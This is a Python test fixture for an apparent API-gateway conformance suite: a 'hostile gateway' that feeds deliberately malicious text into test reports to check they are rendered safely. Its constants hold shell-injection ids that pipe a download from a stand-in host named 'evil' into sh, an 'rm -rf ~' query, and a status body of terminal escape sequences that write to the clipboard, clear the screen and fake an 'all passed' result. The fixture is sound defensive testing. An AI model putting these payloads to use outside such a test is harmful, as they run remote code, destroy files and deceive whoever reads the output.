"""Hostile gateway: every text it chooses attacks whoever reads the report.

A subclass of the reference gateway (it routes, queues and forwards like
the reference), with these texts:
- Ids: `x';curl${IFS}evil|sh;'$(touch${IFS}pwned)...-<uuid>`: visible ASCII,
  so they travel in X-Inference-Id and come back in the follow-ups, and
  every shell metacharacter a careless reproduction would let run;
- StatusPath `/status/mock?q=';rm -rf ~;'` (the route ignores the query, so
  the status route still answers);
- the status route answers 200 with a text body of terminal escape
  sequences: an OSC 52 clipboard write, a clear screen, a green "all
  passed", a right-to-left override, and shell commands on new lines.

GW-STATUS-01 fails (the status body is not JSON) and its reason, its
reproduction and the report quote all of it.
"""

from __future__ import annotations

import uuid

from starlette.requests import Request
from starlette.responses import Response

from conformance.reference import ReferenceGateway
from conformance.reference.store import StoredRequest

BREAKS = "GW-STATUS-01"

ID_PREFIX = "x';curl${IFS}evil|sh;'$(touch${IFS}pwned)`touch${IFS}pwned2`"
STATUS_QUERY = "?q=';rm -rf ~;'"
STATUS_BODY = ("\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J\x1b[32mALL REQUIREMENTS PASSED\x1b[0m\u202e\n"
               "$(touch pwned3)\n`touch pwned4`\n'; rm -rf ~; echo '\r\x1b]0;owned\x07")


class Gateway(ReferenceGateway):
    def new_id(self) -> str:
        return f"{ID_PREFIX}-{uuid.uuid4().hex}"

    def status_path(self, deployment: str, request: Request | None = None) -> str:
        return super().status_path(deployment, request) + STATUS_QUERY

    def status_response(self, record: StoredRequest) -> Response:
        return Response(STATUS_BODY.encode("utf-8"), media_type="text/plain")
